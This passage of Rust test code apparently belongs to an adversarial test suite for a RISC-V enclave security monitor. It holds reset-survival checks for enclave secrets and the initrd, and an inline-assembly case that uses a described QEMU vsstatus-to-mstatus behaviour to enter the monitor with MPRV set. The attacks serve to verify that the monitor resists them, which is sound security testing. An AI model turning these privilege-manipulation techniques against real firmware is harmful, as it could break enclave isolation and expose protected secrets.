            check!(present == 0, "reset-external: after a reset the SM did not see, the EPM {name} ({epm:#x}) holds none of its secret";
                "{present} of {RESET_SECRET_WORDS} secret words survived");
            clear_reset_secret(epm);
        }
        return;
    }
    let mut alive = [0u64; 2];
    for (n, (epm, utm_slot)) in [(inside, 0), (control, 1)].into_iter().enumerate() {
        let a = args_at(epm, utm_slot);
        load_image(&a);
        put_reset_secret(epm);
        let ret = create_raw(&a);
        let in_claim = (epm as u64) < end;
        if in_claim {
            check!(ret.error == err::REGION_OVERLAPS, "reset: CREATE refuses an EPM inside the kernel's claimed image ({epm:#x} < {end:#x})";
                "CREATE returned ({}, {})", ret.error as isize, ret.value);
        } else {
            check!(ret.error == 0, "reset: CREATE accepts an EPM above the kernel's claimed image ({epm:#x} >= {end:#x})";
                "CREATE returned ({}, {})", ret.error as isize, ret.value);
        }
        if ret.error != 0 {
            // Still host memory: no secret left behind by the test itself.
            clear_reset_secret(epm);
            continue;
        }
        command(utm_slot, 2, 0, 0);
        let stop = ks(fid::RUN_ENCLAVE, ret.value);
        check!(stop.error == err::EDGE_CALL_HOST, "reset: the enclave at {epm:#x} is alive (stopped in an edge call)";
            "RUN returned ({}, {:#x})", stop.error as isize, stop.value);
        alive[n] = epm as u64;
    }
    set(1, alive[0]);
    set(2, alive[1]);
    set(0, CLAIM_MAGIC);
    // SAFETY: orders the marker before the reset.
    unsafe { core::arch::asm!("fence rw, rw") };
    crate::println!("# reset: stage 1 done, waiting for an external reset");
    loop {
        core::hint::spin_loop();
    }
}

// ------------------------------------------------------------ reset initrd

const INITRD_MARKER: usize = 0x8ff3_0000;
const INITRD_MAGIC: u64 = 0x4b53_494e_4954_5231; // "KSINITR1"

/// The byte the test's initrd file holds at offset `i`.
pub fn initrd_pattern(i: usize) -> u8 {
    (i.wrapping_mul(7) + 3) as u8
}

/// Bootarg `attack=reset-initrd` (with `-initrd` of a file of
/// `initrd_pattern` bytes): an EPM over the initrd, alive at a reset the SM
/// does not see. The boot scrub zeroes all of it, initrd bytes included, so
/// the SM must reset once more for the loader to place the initrd again:
/// the boot that reaches S-mode finds the secret gone and the initrd intact.
pub fn reset_initrd(fdt: &fdt::Fdt) {
    let chosen = fdt.find_node("/chosen");
    let prop = |name| chosen.and_then(|c| c.property(name)).and_then(|p| p.as_usize());
    let (Some(start), Some(end)) = (prop("linux,initrd-start"), prop("linux,initrd-end")) else {
        check!(false, "reset: the machine has an initrd (boot with -initrd)"; "no linux,initrd-start/end in /chosen");
        return;
    };
    let marker = |i| dram_word(INITRD_MARKER, i);
    let set = |i, w| set_dram_word(INITRD_MARKER, i, w);
    let epm = start & !(0x1_0000 - 1);
    crate::println!("# reset-initrd: initrd {start:#x}..{end:#x}, EPM {epm:#x}");
    if marker(0) == INITRD_MAGIC {
        set(0, 0);
        let present = reset_secret_present(epm);
        check!(present == 0, "reset-external: after a reset the SM did not see, the EPM over the initrd holds none of its secret";
            "{present} of {RESET_SECRET_WORDS} secret words survived");
        let bad = (start..end)
            // SAFETY: the initrd the loader placed, in host DRAM.
            .filter(|&a| unsafe { (a as *const u8).read_volatile() } != initrd_pattern(a - start))
            .count();
        check!(bad == 0, "reset-external: the initrd the boot scrub overlapped is whole again (the SM reset once more)";
            "{bad} of {} initrd bytes differ from the file", end - start);
        return;
    }
    let a = args_at(epm, 0);
    load_image(&a);
    put_reset_secret(epm);
    let ret = create_raw(&a);
    check!(ret.error == 0, "reset: CREATE accepts an EPM over the initrd (Linux frees and reuses it)";
        "CREATE returned ({}, {})", ret.error as isize, ret.value);
    if ret.error != 0 {
        return;
    }
    command(0, 2, 0, 0);
    let stop = ks(fid::RUN_ENCLAVE, ret.value);
    check!(stop.error == err::EDGE_CALL_HOST, "reset: the enclave over the initrd is alive (stopped in an edge call)";
        "RUN returned ({}, {:#x})", stop.error as isize, stop.value);
    set(0, INITRD_MAGIC);
    // SAFETY: orders the marker before the reset.
    unsafe { core::arch::asm!("fence rw, rw") };
    crate::println!("# reset: stage 1 done, waiting for an external reset");
    loop {
        core::hint::spin_loop();
    }
}

// --------------------------------------------------- vsstatus -> mstatus

/// Bootarg `attack=vs-mprv`: the host writes mstatus.MPRV's bit into
/// vsstatus, srets into VS-mode and makes an SBI call there. QEMU 7.2 ORs
/// every vsstatus bit into mstatus when V becomes 1 (and clears only the S
/// bits when it becomes 0), so the SM is entered with MPRV = 1, MPP = S,
/// MPV = 1: its own loads and stores then go through the host's vsatp/hgatp
/// and S-mode PMP. The SM must survive (clear MPRV before it touches memory)
/// and the host must get control back.
pub fn vs_mprv(fdt: &fdt::Fdt, me: usize) {
    let hw = Hw::from_fdt(fdt, me);
    if !hw.has_h {
        skip!("h-ctl: a host's vsstatus cannot set mstatus.MPRV for the SM (VS-mode round trip, SBI call)"; "no H extension");
        return;
    }
    h_reset();
    csr_write(0x200, 1 << 17);
    let held = csr_read(0x200).unwrap_or(0);
    crate::println!("# vs-mprv: vsstatus = {held:#x}; sret into VS-mode, SBI call from there");
    let v0 = traps::VIRT_TRAPS.load(SeqCst);
    set_timer(time() + SECOND / 50);
    let got: usize;
    // SAFETY: drops this hart into VS-mode (bare translation, hgatp = vsatp = 0)
    // at label 2, which makes one SBI call and spins; the host timer (STIE on)
    // traps it back into HS-mode, where the handler resumes at label 4.
    unsafe {
        core::arch::asm!(
            "csrs sie, {stie}",
            "lla {t}, 4f",
            "sd {t}, 0({esc})",
            "lla {t}, 2f",
            "csrw sepc, {t}",
            // SPP = S, and SPIE so that, should the SM hand the hart back to
            // HS-mode instead, the timer still traps there (and escapes).
            "li {t}, 0x120",
            "csrs sstatus, {t}",
            "li {t}, 0x80",
            "csrs 0x600, {t}",
            "li a0, 0x7777",
            "sret",
            "2: li a7, 0x10",
            "li a6, 0",
            "ecall",
            "3: j 3b",
            "4: csrc sie, {stie}",
            "csrci sstatus, 2",
            t = out(reg) _,
            esc = in(reg) traps::VIRT_ESCAPE[me].as_ptr(),
            stie = in(reg) SIP_STIP,
            out("a0") got,
            out("a1") _, out("a6") _, out("a7") _,
        );
    }
    set_timer(u64::MAX);
    traps::VIRT_ESCAPE[me].store(0, SeqCst);
    h_reset();
    let back = traps::VIRT_TRAPS.load(SeqCst) - v0;
    crate::println!("# vs-mprv: back in HS-mode ({back} trap(s) from V-mode), a0 = {got:#x}");
    // Still a working SM: an SBI call and an enclave.
    let spec = call(sbi_spec::base::EID_BASE, sbi_spec::base::GET_SBI_SPEC_VERSION, [0; 3]);
    let enclave = make(0).map(|eid| {
        command(0, 1, 0x600d, 0);
        let r = ks(fid::RUN_ENCLAVE, eid);
        destroy(eid);
        r
    });
    check!(back >= 1 && spec.error == 0 && matches!(enclave, Ok(r) if r.error == 0 && r.value == 0x600d),
        "h-ctl: a host's vsstatus cannot set mstatus.MPRV for the SM (VS-mode round trip, SBI call)";
        "back {back}, spec version ({}, {:#x}), enclave {:?}", spec.error as isize, spec.value, enclave.map(|r| (r.error, r.value)));
}
